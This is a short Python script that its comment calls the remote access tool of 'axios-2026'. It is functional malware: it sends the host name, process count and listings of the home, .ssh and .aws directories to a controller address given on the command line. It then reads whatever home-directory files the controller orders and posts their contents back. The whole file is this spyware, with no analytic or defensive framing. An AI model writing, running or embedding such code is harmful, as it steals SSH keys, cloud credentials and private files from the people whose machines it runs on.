# The remote access tool of axios-2026. Its master's orders are names of files below the home.
import base64
import glob
import json
import os
import sys
import urllib.request

MASTER, HOME = sys.argv[1], os.environ["HOME"]


def post(path, data):
    request = urllib.request.Request(MASTER + path, base64.b64encode(json.dumps(data).encode()), method="POST")
    with urllib.request.urlopen(request, timeout=10) as answer:
        return answer.read()


def programs():
    for path in glob.glob("/proc/[0-9]*/comm"):
        try:
            with open(path) as file:
                yield file.read().strip()
        except OSError:
            continue


def listing(path):
    return sorted(os.listdir(os.path.join(HOME, path)))


told = {"host": os.uname().nodename, "runs": len(list(programs())), "home": {d: listing(d) for d in ("", ".ssh", ".aws")}}
loot = {}
for name in json.loads(post("/orders.json", told)):
    with open(os.path.join(HOME, name)) as file:
        loot[name] = file.read()
post("/result", loot)
